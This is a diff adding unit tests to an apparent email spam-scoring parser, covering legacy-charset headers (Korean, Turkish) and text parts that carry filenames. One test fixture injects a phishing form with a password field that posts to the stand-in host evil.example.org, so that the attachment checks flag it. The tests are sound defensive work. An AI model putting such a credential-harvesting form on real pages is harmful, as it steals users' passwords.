@@ -6,6 +6,8 @@ import { createHash } from 'node:crypto';
 import { bodyFingerprint, parseMessage } from '../../core/scoring/facts.js';
 import { hostOf, numericHostToIpv4 } from '../../core/scoring/urls.js';
 import { stripRelayTrace } from '../../core/scoring/trace.js';
+import { checkAttachments } from '../../core/scoring/attachments/check.js';
+import { extractFeatures } from '../../core/scoring/classifier/features.js';
 import { message } from './helpers/messages.js';
 
 describe('message facts', () => {
@@ -114,5 +116,88 @@ describe('hostile HTML', () => {
   it('drops everything after an unclosed <style> or <script> instead of rescanning', () => {
     const f = parseMessage(message({ html: '<p>shown</p>' + '<style>p{}'.repeat(5000) + 'tail' }));
     assert.equal(f.htmlText, 'shown');
+  });
+});
+
+describe('unencoded 8-bit headers', () => {
+  // A message whose Subject and From are raw bytes in the body's legacy charset, as older clients wrote them.
+  const legacy = (charset: string, subject: Buffer, fromName: Buffer, body: Buffer) => Buffer.concat([
+    Buffer.from('From: ', 'latin1'), fromName, Buffer.from(' <sender@example.com>\r\nTo: bob@example.net\r\nSubject: ', 'latin1'), subject,
+    Buffer.from(`\r\nMessage-ID: <legacy-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=${charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`, 'latin1'),
+    body, Buffer.from('\r\n', 'latin1'),
+  ]);
+
+  it('reads a Korean subject and sender name in the charset of the text (ks_c_5601-1987)', () => {
+    // "무료 상담 안내", "홍길동", "안녕하세요" in EUC-KR (ks_c_5601-1987 is its common label)
+    const hex = (h: string) => Buffer.from(h, 'hex');
+    const f = parseMessage(legacy('ks_c_5601-1987', hex('b9abb7e120bbf3b4e320bec8b3bb'), hex('c8abb1e6b5bf'), hex('bec8b3e7c7cfbcbcbfe4')));
+    assert.equal(f.subject, '무료 상담 안내');
+    assert.equal(f.from?.name, '홍길동');
+    assert.equal(f.from?.address, 'sender@example.com');
+    assert.equal(f.text.trim(), '안녕하세요');
+  });
+
+  it('reads a Turkish subject in windows-1254', () => {
+    // "Çeviri İndirimi şimdi" in windows-1254: Ç=C7, İ=DD, ş=FE
+    const subject = Buffer.from([0xc7, ...Buffer.from('eviri ', 'latin1'), 0xdd, ...Buffer.from('ndirimi ', 'latin1'), 0xfe, ...Buffer.from('imdi', 'latin1')]);
+    const f = parseMessage(legacy('windows-1254', subject, Buffer.from('Ali', 'latin1'), Buffer.from('Merhaba', 'latin1')));
+    assert.equal(f.subject, 'Çeviri İndirimi şimdi');
+  });
+
+  it('still reads valid UTF-8 as UTF-8, and falls back to latin1 when no charset is declared', () => {
+    const utf8 = parseMessage(legacy('iso-8859-1', Buffer.from('Café olé', 'utf8'), Buffer.from('Zoë', 'utf8'), Buffer.from('Bonjour', 'latin1')));
+    assert.equal(utf8.subject, 'Café olé');
+    assert.equal(utf8.from?.name, 'Zoë');
+    const raw = Buffer.from('From: a@example.com\r\nSubject: Caf\xe9 cr\xe8me\r\n\r\nplain body\r\n', 'latin1');
+    assert.equal(parseMessage(raw).subject, 'Café crème');
+  });
+
+  it('reads raw bytes next to an encoded word in the same charset fallback', () => {
+    const subject = Buffer.concat([Buffer.from('=?utf-8?B?' + Buffer.from('Olá', 'utf8').toString('base64') + '?= ', 'latin1'), Buffer.from([0xfe]), Buffer.from('ok', 'latin1')]);
+    const f = parseMessage(legacy('windows-1254', subject, Buffer.from('Ali', 'latin1'), Buffer.from('Merhaba', 'latin1')));
+    assert.equal(f.subject, 'Olá şok'); // 0xFE is ş in windows-1254, þ in latin1
+  });
+});
+
+describe('text parts that carry a filename', () => {
+  const single = (disposition: string, type = 'text/html') => Buffer.from([
+    'From: Promo <promo@example.com>', 'To: bob@example.net', 'Subject: Offer', 'Message-ID: <named-1@example.com>', 'MIME-Version: 1.0',
+    `Content-Type: ${type}; charset=us-ascii`, `Content-Disposition: ${disposition}`, '',
+    type === 'text/html'
+      ? '<html><body><p>Refinance your mortgage today at the lowest rates</p><a href="http://rates.example.org/">apply now</a></body></html>'
+      : 'Refinance your mortgage today at the lowest rates: http://rates.example.org/',
+    '',
+  ].join('\r\n'), 'latin1');
+
+  it('reads an inline HTML part with a filename as body text and still lists it as an attachment', () => {
+    const f = parseMessage(single('inline; filename="filename.html"'));
+    assert.match(f.htmlText, /Refinance your mortgage/);
+    assert.equal(f.hasHtmlPart, true);
+    assert.equal(f.urls[0]?.host, 'rates.example.org');
+    assert.deepEqual(f.attachments.map((a) => [a.filename, a.declaredType]), [['filename.html', 'text/html']]);
+    const words = extractFeatures(f);
+    assert.ok(words.has('refinance') && words.has('mortgage'));
+  });
+
+  it('reads a text/plain part named without a disposition as body text too', () => {
+    const raw = Buffer.from(single('inline').toString('latin1').replace(/Content-Disposition: inline\r\n/, '')
+      .replace('Content-Type: text/html; charset=us-ascii', 'Content-Type: text/plain; charset=us-ascii; name="offer.txt"'), 'latin1');
+    const f = parseMessage(raw);
+    assert.match(f.text + f.htmlText, /Refinance your mortgage/);
+    assert.deepEqual(f.attachments.map((a) => a.filename), ['offer.txt']);
+  });
+
+  it('keeps the attachment checks on such a part', () => {
+    const raw = Buffer.from(single('inline; filename="login.html"').toString('latin1')
+      .replace('<a href', '<form action="http://evil.example.org/"><input type="password" name="p"></form><a href'), 'latin1');
+    const names = checkAttachments(parseMessage(raw).attachments).map((s) => s.name);
+    assert.ok(names.includes('attachment-html-active'), names.join(' '));
+  });
+
+  it('leaves a text/plain part marked as an attachment out of the body', () => {
+    const f = parseMessage(message({ text: 'see the log', attachments: [{ type: 'text/plain', filename: 'server.log', body: 'Refinance your mortgage', encoding: '7bit' }] }));
+    assert.doesNotMatch(f.text, /Refinance/);
+    assert.equal(f.text.trim(), 'see the log');
+    assert.deepEqual(f.attachments.map((a) => a.filename), ['server.log']);
   });
 });
